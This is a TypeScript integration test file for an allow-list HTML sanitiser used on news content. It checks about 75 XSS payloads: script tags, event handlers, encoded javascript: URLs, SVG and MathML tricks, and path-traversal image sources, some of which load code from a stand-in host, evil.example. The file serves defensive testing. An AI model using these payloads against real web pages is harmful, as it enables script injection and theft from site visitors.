import { expect } from 'chai';
import { AllowListHtmlSanitizer } from '../../../adapters/html/allow-list-html-sanitizer';

// DESIGN 11: news content is HTML sanitised on the server with an allow-list. Whatever an editor (or an
// attacker holding an editor's token) sends, nothing executable may reach a player's page.

const UPLOADS = '/uploads/fi';
const sanitizer = new AllowListHtmlSanitizer(UPLOADS);

const ALLOWED_TAGS = new Set([
  'p',
  'br',
  'h2',
  'h3',
  'strong',
  'em',
  'u',
  's',
  'ul',
  'ol',
  'li',
  'blockquote',
  'a',
  'img',
]);

/** Every payload a browser might run: scripts, handlers, dangerous URLs, foreign markup, tricks of parsing. */
const PAYLOADS: readonly string[] = [
  // Scripts
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script type="module">import("//evil.example")</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script/xss src="//evil.example/x.js"></script>',
  '<p>text<script>alert(1)</script>more</p>',
  // Event handlers
  '<img src="/uploads/fi/news/a.webp" onerror="alert(1)">',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)">click</p>',
  '<a href="https://example.org" onmouseover="alert(1)">hover</a>',
  '<body onload=alert(1)>',
  '<div onpointerenter=alert(1)>x</div>',
  '<p ONCLICK=alert(1)>upper</p>',
  '<p/onclick=alert(1)>slash</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  // javascript:, vbscript: and data: URLs, plain and disguised
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="VBScript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="javascript:alert(1)">',
  '<a href="//evil.example/phish">x</a>',
  // Images from elsewhere or escaping the uploads folder
  '<img src="https://evil.example/track.png">',
  '<img src="http://evil.example/uploads/fi/x.png">',
  '<img src="/uploads/fi/../../etc/passwd">',
  '<img src="/uploads/en/news/other-instance.webp">',
  '<img src="/uploads/fi/news/a.webp" srcset="https://evil.example/x.png 2x">',
  // SVG and MathML
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  // Styles
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<p style="expression(alert(1))">x</p>',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  // Frames, objects, embeds and forms
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="//evil.example/x.swf">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  // Document-level tricks
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<base href="//evil.example/">',
  // Comments, CDATA, nesting and malformed markup
  '<!--<script>alert(1)</script>-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<a href="https://example.org"<img src=x onerror=alert(1)>>x</a>',
  '<img """><script>alert(1)</script>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<template><script>alert(1)</script></template>',
  '<p><b><i><u onclick=alert(1)>deep</u></i></b></p>',
  '</p><script>alert(1)</script><p>',
  '<a href="https://example.org" target="_blank" rel="opener">tab</a>',
  // Encoded dots a browser reads as `..`: an upload path that leads to any path of the site.
  '<img src="/uploads/fi/%2e%2e/%2e%2e/fi/api/auth/me">',
  '<img src="/uploads/fi/news/.%2e/.%2e/fi/api/auth/me">',
  '<img src="/uploads/fi/news/a.webp?/../../api">',
];

const TAG = /<(\/?)([a-zA-Z][a-zA-Z0-9-]*)((?:\s[^>]*)?)\/?>/g;

/** Entity-decoded, so that an encoded scheme cannot hide from the checks. */
const decoded = (html: string) =>
  html
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&colon;/gi, ':')
    .replace(/&tab;/gi, '\t')
    .replace(/&newline;/gi, '\n');

function expectNothingExecutable(output: string, payload: string): void {
  const label = `${payload} => ${output}`;
  expect(output, label).to.not.match(/<script/i);
  expect(output, label).to.not.match(/<style/i);
  for (const [, closing, name = '', attributes = ''] of output.matchAll(TAG)) {
    expect(ALLOWED_TAGS.has(name.toLowerCase()), `tag <${name}> in ${label}`).to.equal(true);
    if (closing) continue;
    expect(attributes, label).to.not.match(/(^|\s|\/)on[a-z]+\s*=/i);
    expect(attributes, label).to.not.match(/\sstyle\s*=/i);
    expect(attributes, label).to.not.match(/\s(srcset|formaction|xlink:href|action)\s*=/i);
    const plain = decoded(attributes).replace(/\s/g, '');
    expect(plain, label).to.not.match(/(javascript|vbscript|data):/i);
    if (name.toLowerCase() === 'img') {
      const src = /\ssrc="([^"]*)"/.exec(attributes)?.[1] ?? '';
      expect(
        /^\/uploads\/fi\/[a-z]+\/[\w-]+\.(webp|png|jpe?g|gif)$/.test(src),
        `image from ${src}: ${label}`,
      ).to.equal(true);
    }
    if (name.toLowerCase() === 'a') {
      const href = /\shref="([^"]*)"/.exec(attributes)?.[1];
      if (href !== undefined) expect(href, label).to.match(/^(https?:\/\/|mailto:)/);
      expect(attributes, label).to.include('rel="noopener noreferrer"');
    }
  }
}

describe('Integration | HTML | Allow-list sanitiser (news content)', () => {
  it(`has at least 50 attack payloads to try (${PAYLOADS.length})`, () => {
    expect(PAYLOADS.length).to.be.at.least(50);
  });

  for (const [i, payload] of PAYLOADS.entries()) {
    it(`given payload ${i + 1} (${payload.slice(0, 50)}), then nothing executable survives`, () => {
      expectNothingExecutable(sanitizer.sanitize(payload), payload);
      // Sanitising what was stored changes nothing more: the output is already at rest.
      const once = sanitizer.sanitize(payload);
      expect(sanitizer.sanitize(once)).to.equal(once);
    });
  }

  it('given the markup the editor makes, then it survives intact (links get rel="noopener noreferrer")', () => {
    const html =
      '<h2>Otsikko</h2><h3>Väliotsikko</h3>' +
      '<p>Teksti <strong>vahva</strong> <em>kursiivi</em> <u>alle</u> <s>yli</s><br />rivi</p>' +
      '<ul><li>yksi</li><li>kaksi</li></ul><ol><li>eka</li></ol><blockquote>lainaus</blockquote>' +
      '<p><a href="https://example.org/x?a=1&amp;b=2">linkki</a> <a href="mailto:toimitus@example.org">posti</a></p>' +
      '<p><img src="/uploads/fi/news/0b7c6a3e-1d2f-4c5b-9a8e-7f6d5c4b3a21.webp" alt="kuva" width="800" height="600" /></p>' +
      '<p>Tom &amp; Jerry &lt;3</p>';
    expect(sanitizer.sanitize(html)).to.equal(
      html
        .replace('x?a=1&amp;b=2">', 'x?a=1&amp;b=2" rel="noopener noreferrer">')
        .replace('example.org">', 'example.org" rel="noopener noreferrer">'),
    );
  });

  it('given b and i, then they become strong and em; unknown wrappers go, their text stays', () => {
    expect(sanitizer.sanitize('<b>bold</b> <i>it</i> <div><span>kept text</span></div>')).to.equal(
      '<strong>bold</strong> <em>it</em> kept text',
    );
  });

  it('given a rel or target of its own on a link, then the link keeps only rel="noopener noreferrer"', () => {
    expect(sanitizer.sanitize('<a href="https://x.fi" target="_blank" rel="opener">x</a>')).to.equal(
      '<a href="https://x.fi" rel="noopener noreferrer">x</a>',
    );
  });
});
